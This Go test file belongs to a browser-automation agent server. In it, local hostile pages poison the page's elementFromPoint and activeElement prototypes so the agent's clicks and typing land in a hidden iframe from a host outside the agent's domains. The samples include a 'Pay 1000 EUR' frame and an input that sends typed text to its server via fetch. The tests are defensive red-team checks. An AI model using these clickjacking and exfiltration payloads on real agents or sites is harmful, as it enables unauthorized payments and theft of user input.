package main

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// livetab's in-page library runs in the page's main world (page/js.go),
// and its hit test (hitTarget: elementFromPoint) and focus check
// (holdsFocus: activeElement) call the page's own, writable, prototypes.
// A hostile page of an allowed host replaces them: elementFromPoint
// answers "your button" when the real answer is a transparent frame of a
// host outside the agent's domains, on top of the button; activeElement
// answers "your input" when the focus went to such a frame. The agent's
// trusted click and keys landed in the outside frame, which told its
// server; the browser's own hit test and focus, read in an isolated world
// (internal/hit), now refuse them. The controls: the same pages without the poison (the snapshot
// leaves out the covered button; the typing stops when the focus leaves,
// as in TestRedTeamClickLandsInAnOutsideFrame and
// TestRedTeamTypingLandsInAnOutsideFrame).
func TestRedTeamPoisonedHitTestClicksAnOutsideFrame(t *testing.T) {
	s := needShared(t)
	outside := newRecorder(t, "127.0.0.2", func(string) string {
		return `<!doctype html><title>pay</title><body style="margin:0"><button style="width:100%;height:100vh" ` +
			`onmousedown="fetch('/down')" onclick="fetch('/clicked')">Pay 1000 EUR</button>`
	})
	poison := `<script>
const realEFP = Document.prototype.elementFromPoint;
Document.prototype.elementFromPoint = function (x, y) { const h = realEFP.call(this, x, y); return h === f ? b : h; };
</script>`
	hostile := newRecorder(t, "127.0.0.1", func(path string) string {
		p := ""
		if path == "/poison" {
			p = poison
		}
		return fmt.Sprintf(`<!doctype html><title>shop</title><p>Click Buy to continue.</p>`+
			`<div style="position:relative;width:300px;height:120px"><button id="b" style="position:absolute;left:0;top:0;width:300px;height:120px">Buy</button>`+
			`<iframe id="f" src="%s/pay" style="position:absolute;left:0;top:0;width:300px;height:120px;border:0;opacity:0;z-index:1"></iframe></div>%s`, outside.URL, p)
	})
	c := startMCP(t, s.home, nil, "--allow-domain", "127.0.0.1", "--allow-private-networks")
	for _, path := range []string{"/plain", "/poison"} {
		c.ok(t, "browser_navigate", map[string]any{"url": hostile.URL + path})
		time.Sleep(300 * time.Millisecond)
		snap := mustSnap(t, c)
		t.Logf("%s: snapshot:\n%s", path, snap)
		if !strings.Contains(snap, `button "Buy"`) {
			// The control: the covered button is not offered at all.
			if path == "/poison" {
				t.Errorf("%s: no Buy button in the snapshot", path)
			}
			continue
		}
		res := resultText(c.call(t, "browser_click", map[string]any{"index": index(t, snap, `button "Buy"`)}))
		time.Sleep(500 * time.Millisecond)
		t.Logf("%s: click: %s; the outside server saw %v", path, res, outside.paths())
	}
	if !outside.hit("/pay") {
		t.Fatalf("the outside frame never loaded: this run shows nothing")
	}
	if outside.hit("/down") || outside.hit("/clicked") {
		t.Errorf("the agent's click acted in a frame of %s, outside its domains: %v", outside.URL, outside.paths())
	}
}

func TestRedTeamPoisonedFocusCheckTypesIntoAnOutsideFrame(t *testing.T) {
	s := needShared(t)
	outside := newRecorder(t, "127.0.0.2", func(string) string {
		return `<!doctype html><title>note</title><input id="i"><script>addEventListener('focus', () => i.focus()); ` +
			`i.addEventListener('input', () => fetch('/typed-' + encodeURIComponent(i.value)))</script>`
	})
	poison := `<script>
const realActive = Object.getOwnPropertyDescriptor(Document.prototype, 'activeElement').get;
Object.defineProperty(Document.prototype, 'activeElement', { configurable: true, get() { const a = realActive.call(this); return a === f ? n : a } });
</script>`
	hostile := newRecorder(t, "127.0.0.1", func(path string) string {
		p := ""
		if path == "/poison" {
			p = poison
		}
		return fmt.Sprintf(`<!doctype html><title>shop</title><label>Your note <input id="n"></label>`+
			`<iframe id="f" src="%s/note" style="width:200px;height:40px;border:0"></iframe>`+
			`<script>n.addEventListener('focus', () => setTimeout(() => f.focus(), 0))</script>%s`, outside.URL, p)
	})
	c := startMCP(t, s.home, nil, "--allow-domain", "127.0.0.1", "--allow-private-networks")
	for _, path := range []string{"/plain", "/poison"} {
		c.ok(t, "browser_navigate", map[string]any{"url": hostile.URL + path})
		time.Sleep(300 * time.Millisecond)
		snap := mustSnap(t, c)
		res := resultText(c.call(t, "browser_type", map[string]any{"index": index(t, snap, `textbox "Your note"`), "text": "secret"}))
		time.Sleep(500 * time.Millisecond)
		t.Logf("%s: type: %s; the outside server saw %v", path, res, outside.paths())
	}
	if !outside.hit("/note") {
		t.Fatalf("the outside frame never loaded: this run shows nothing")
	}
	var typed []string
	for _, p := range outside.paths() {
		if strings.HasPrefix(p, "/typed-") {
			typed = append(typed, p)
		}
	}
	if len(typed) > 0 {
		t.Errorf("the agent's keys went into a frame of %s, outside its domains: %v", outside.URL, typed)
	}
}
